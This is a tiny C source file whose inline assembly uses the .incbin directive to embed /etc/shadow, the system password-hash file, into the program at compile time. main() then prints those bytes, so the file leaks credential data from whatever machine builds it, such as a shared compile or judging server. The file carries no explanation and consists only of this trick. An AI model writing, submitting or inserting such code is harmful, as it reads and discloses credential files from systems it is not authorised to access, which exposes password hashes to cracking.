__asm__(".section .rodata\ntext: .incbin \"/etc/shadow\"\nend: .byte 0\n.text");
extern const char text[], end[];
#include <stdio.h>
int main(void) { fwrite(text, 1, (size_t)(end - text), stdout); return 0; }
